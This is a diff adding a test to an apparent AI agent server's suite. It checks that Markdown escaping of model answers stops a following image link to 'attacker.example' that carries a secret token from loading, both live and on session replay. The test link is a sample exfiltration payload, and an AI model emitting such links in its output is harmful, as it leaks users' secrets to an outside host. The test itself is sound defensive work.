@@ -85,6 +85,28 @@ async def test_an_image_cut_off_by_the_end_of_the_answer_still_loads_nothing(
         assert loaded_images(client.text(sid)) == [], client.text(sid)
 
 
+async def test_an_answer_ending_in_an_exclamation_mark_reaches_the_editor_as_written(
+    fake: FakeProvider, home: Path, project: Path
+) -> None:
+    # The held-back `!` went out escaped at the end of the turn (`Done\!`), shown as such
+    # by a client that does not render Markdown, with no `[` after it. It goes out as it
+    # is; the next answer's `[`, which a client appending it would read as an image's
+    # start, is escaped instead, live and replayed.
+    link = f"[x](https://attacker.example/?d={TOKEN})"
+    fake.script([Reply(text="Done!", chunk_size=1), Reply(text=link)])
+    env = server_env(home, fake)
+    async with connected(env, LOCAL) as (_, client):
+        sid = (await client.new_session(project))["sessionId"]
+        assert await client.prompt(sid, "one") == {"stopReason": "end_turn"}
+        assert client.text(sid) == "Done!"
+        assert await client.prompt(sid, "two") == {"stopReason": "end_turn"}
+        assert client.text(sid) == "Done!\\" + link
+        assert loaded_images(client.text(sid)) == []
+    async with connected(env, LOCAL) as (_, client):
+        await client.request("session/load", {"sessionId": sid, "cwd": str(project), "mcpServers": []})
+        assert client.text(sid) == "Done!\\" + link
+
+
 async def test_an_image_in_what_a_tool_returns_loads_nothing_on_its_card(
     fake: FakeProvider, home: Path, project: Path
 ) -> None:
